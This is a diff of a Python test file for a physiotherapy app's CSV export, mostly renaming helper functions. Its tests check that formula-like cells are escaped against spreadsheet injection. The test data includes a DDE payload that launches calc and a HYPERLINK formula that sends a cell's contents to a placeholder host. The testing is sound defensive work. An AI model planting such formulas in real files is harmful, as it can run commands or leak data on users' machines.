@@ -18,11 +18,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from export_samples import NOTE, sixty_sessions, tables_of
-from reloadpt.share.csv_files import as_written, cell, harmless
-from reloadpt.share.datapackage import Made
+from reloadpt.share.csv_files import cell, harmless, unescaped
+from reloadpt.share.datapackage import ExportScope
 from reloadpt.share.exporting import write_tables
-from reloadpt.share.rows import TABLES, fields_of
-from reloadpt.share.tables import tables
+from reloadpt.share.rows import TABLES, table_columns
+from reloadpt.share.tables import tables_of_log
 from sample_logs import HOSTILE, a_plan, at, begins, course, item, meant, sat
 
 COLUMNS = [
@@ -86,7 +86,7 @@ RUN = ("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid?x="&A1,
 def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("sixty")
     told = tables_of(sixty_sessions(folder / "journal.jsonl"))
-    write_tables([told], folder / "out", Made("csv"))
+    write_tables([told], folder / "out", ExportScope("csv"))
     return folder / "out"
 
 
@@ -192,21 +192,21 @@ def test_a_table_missing_fails(copy: Path) -> None:
 
 def test_notes_stand_once_and_as_they_were_written(export: Path) -> None:
     told = [row["note"] for row in rows(export / "sessions.csv") if row["note"]]
-    assert [as_written(note) for note in told] == [NOTE]
+    assert [unescaped(note) for note in told] == [NOTE]
     assert [row["note"] for row in rows(export / "sets.csv") if row["note"]] == told
 
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_a_formula_gets_one_apostrophe_and_can_be_read_back(text: str) -> None:
     assert harmless(text) == f"'{text}"
-    assert as_written(harmless(text)) == text
+    assert unescaped(harmless(text)) == text
 
 
 @pytest.mark.parametrize(
     "text", ["", "knee", "3-1-3", "a=b", "'tis sore", "10 %", "x@example.invalid", "(=1)"]
 )
 def test_other_text_stays_as_it_is(text: str) -> None:
-    assert harmless(text) == text == as_written(text)
+    assert harmless(text) == text == unescaped(text)
 
 
 @settings(max_examples=60, deadline=None)
@@ -216,11 +216,11 @@ def test_any_text_is_read_back_but_for_control_characters(text: str) -> None:
         sign for sign in text if sign in "\t\r\n" or not (ord(sign) < 32 or 127 <= ord(sign) < 160)
     )
     kept = "".join(sign for sign in kept if not 0xD800 <= ord(sign) < 0xE000)
-    assert as_written(harmless(text)) == kept
+    assert unescaped(harmless(text)) == kept
 
 
 def test_numbers_never_get_an_apostrophe() -> None:
-    fields = {field.name: field for field in fields_of("sets")}
+    fields = {field.name: field for field in table_columns("sets")}
     told = {cell(fields["seconds"], value) for value in (-1.5, 30.0, 0.1)}
     assert told == {"-1.5", "30", "0.1"}
     assert cell(fields["session_date"], date(2026, 11, 22)) == "2026-11-22"
@@ -255,8 +255,8 @@ def test_a_spreadsheet_takes_no_text_of_ours_for_a_formula(tmp_path: Path) -> No
     log: list[Any] = [(at(0), begins(complaint=FORMULAS[0], patient=FORMULAS[1]))]
     for day, text in enumerate((*FORMULAS, *HOSTILE), start=1):
         log += sat(day, None, item(name=text, resistance=text, muscle=text))
-    told = tables(course(*log), meant(), patient_id=FORMULAS[2])
-    write_tables([told], tmp_path / "csv", Made("csv"))
+    told = tables_of_log(course(*log), meant(), patient_id=FORMULAS[2])
+    write_tables([told], tmp_path / "csv", ExportScope("csv"))
     raw = tmp_path / "raw.csv"
     with raw.open("w", encoding="utf-8", newline="") as stream:
         csv.writer(stream).writerows([[text] for text in FORMULAS])
@@ -276,8 +276,8 @@ def test_a_plan_that_nobody_followed_has_its_denominators_in_the_file(tmp_path: 
     from reloadpt.journal.events import PlanStarted
     from sample_logs import rated
 
-    told = tables(course((at(0), PlanStarted(plan=a_plan().as_json())), rated(4, 3)), meant())
-    write_tables([told], tmp_path / "out", Made("csv"))
+    told = tables_of_log(course((at(0), PlanStarted(plan=a_plan().as_json())), rated(4, 3)), meant())
+    write_tables([told], tmp_path / "out", ExportScope("csv"))
     found = rows(tmp_path / "out" / "sets.csv")
     assert {row["session_date"] for row in found} == {"2026-11-21", "2026-11-22", "2026-11-23"}
     assert {row["status"] for row in found} == {"not_opened"}
